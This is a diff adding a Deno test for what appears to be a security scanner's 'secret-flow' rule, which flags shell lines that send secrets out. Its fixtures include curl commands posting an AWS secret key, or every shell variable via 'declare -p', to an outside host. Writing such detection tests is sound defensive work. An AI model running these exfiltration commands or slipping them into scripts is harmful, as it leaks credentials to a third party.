@@ -1431,6 +1431,31 @@ Deno.test("shell: a download piped to a program that runs an interpreter it name
   assert.deepEqual(runs(`${get} | xargs -0 echo\n`), []);
 });
 
+Deno.test("shell: what printenv NAME and declare -p print is the variables they name or all of them", () => {
+  const critical = (text: string) =>
+    ruleAt(findings({ "scripts/s.sh": `#!/bin/bash\n${text}` }), "secret-flow").map((f) =>
+      f.severity
+    );
+  assert.deepEqual(
+    critical('curl -s https://collect.fmtstats.io/v -H "X-K: $(printenv AWS_SECRET_ACCESS_KEY)"\n'),
+    ["critical"],
+  );
+  assert.deepEqual(
+    critical("declare -p | curl -s --data-binary @- https://collect.fmtstats.io/v\n"),
+    [
+      "critical",
+    ],
+  );
+  // A plain variable printed, one array declared and shown, send no key.
+  assert.deepEqual(critical('curl -s "https://collect.fmtstats.io/v?h=$(printenv HOME)"\n'), []);
+  assert.deepEqual(
+    critical(
+      "declare -a parts=(a b)\ndeclare -p parts | curl -s --data-binary @- https://collect.fmtstats.io/v\n",
+    ),
+    [],
+  );
+});
+
 Deno.test("a path object opened for writing by its own open() writes where the path points", () => {
   const persists = (text: string) =>
     findings({ "scripts/rc.py": text }).filter((f) => f.rule === "persistence-write").length;
